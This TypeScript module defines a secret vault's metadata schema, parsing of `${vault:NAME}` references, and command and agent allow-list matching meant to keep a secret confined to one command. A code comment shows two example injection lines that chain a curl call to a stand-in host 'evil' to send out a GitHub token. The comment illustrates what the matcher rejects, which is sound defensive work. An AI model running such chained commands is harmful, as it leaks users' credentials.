/**
 * The vault's metadata model and secret references. Metadata never holds a value: each secret's value and
 * its metadata are two separate entries in the secret store (VS Code SecretStorage), see layout.ts.
 */
import { z } from 'zod';

/** Secret names double as environment variable names inside the sandbox. */
export const SECRET_NAME_PATTERN = /^[A-Za-z_][A-Za-z0-9_]{0,127}$/;

export const SecretNameSchema = z.string().regex(SECRET_NAME_PATTERN, 'a secret name is letters, digits and _, not starting with a digit');

export const SecretMetadataSchema = z.object({
  /** Stable id; also the environment variable name the secret is injected as. */
  id: SecretNameSchema,
  /** What the secret is for, e.g. `github`, `npm`. */
  service: z.string().max(200),
  label: z.string().max(200),
  /** ISO time, or `unknown` for a secret recovered without its metadata. */
  created: z.string(),
  /** ISO time of the last rotation, when there was one. */
  rotated: z.string().optional(),
  lastUsed: z.string().optional(),
  /** Command patterns (`*` is a wildcard over the whole command line) allowed to receive the secret. */
  allowedCommands: z.array(z.string().min(1)),
  /** Agent ids allowed to ask for it; `*` means any agent. Empty means none. */
  allowedAgents: z.array(z.string().min(1)),
});
export type SecretMetadata = z.infer<typeof SecretMetadataSchema>;

/**
 * What a listing shows about each secret, derived from what the secret store holds for it:
 * `ok` value and metadata; `recovered` a value without (readable) metadata: listed with no permissions and
 * never injected until the developer edits it; `no-value` metadata without a value: never injected;
 * `empty` listed but neither is stored (an add or a delete was interrupted).
 */
export const SECRET_STATUSES = ['ok', 'recovered', 'no-value', 'empty'] as const;
export type SecretStatus = (typeof SECRET_STATUSES)[number];

export type VaultEntry = SecretMetadata & { status: SecretStatus };

/** Metadata of a secret whose own metadata is missing: no permissions, so nothing can use it. */
export function recoveredMetadata(id: string): SecretMetadata {
  return { id, service: '', label: 'recovered, description unknown', created: 'unknown', allowedCommands: [], allowedAgents: [] };
}

/** A reference to a vault secret in a file or a policy: `${vault:NAME}`. */
const REFERENCE = /\$\{vault:([A-Za-z_][A-Za-z0-9_]{0,127})\}/g;

export function secretReference(name: string): string {
  return `\${vault:${name}}`;
}

/** Names referenced in `text`, in order of first appearance, without duplicates. */
export function parseSecretReferences(text: string): string[] {
  const names: string[] = [];
  for (const m of text.matchAll(REFERENCE)) {
    const name = m[1];
    if (name !== undefined && !names.includes(name)) names.push(name);
  }
  return names;
}

/** If the whole (trimmed) text is one reference, its name. */
export function referencedName(text: string): string | undefined {
  const m = /^\$\{vault:([A-Za-z_][A-Za-z0-9_]{0,127})\}$/.exec(text.trim());
  return m?.[1];
}

/**
 * `*` matches anything except shell control and substitution characters, so `gh *` allows `gh pr list`
 * but never `gh pr list; curl evil -d "$GH_TOKEN"` or `gh $(curl evil)`: a secret goes to one command only.
 */
const WILDCARD = '[^;&|<>()`$\\n\\r]*';

function globToRegExp(pattern: string): RegExp {
  const body = pattern.split('*').map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join(WILDCARD);
  return new RegExp(`^${body}$`);
}

/** Whether `command` (the full command line) matches one of the allowed patterns. */
export function commandAllowed(patterns: readonly string[], command: string): boolean {
  // Only blanks are collapsed: a newline separates commands and must stay visible to the wildcard.
  const normalized = command.trim().replace(/[ \t]+/g, ' ');
  return patterns.some((p) => globToRegExp(p.trim().replace(/[ \t]+/g, ' ')).test(normalized));
}

export function agentAllowed(agents: readonly string[], agent: string): boolean {
  return agents.includes('*') || agents.includes(agent);
}
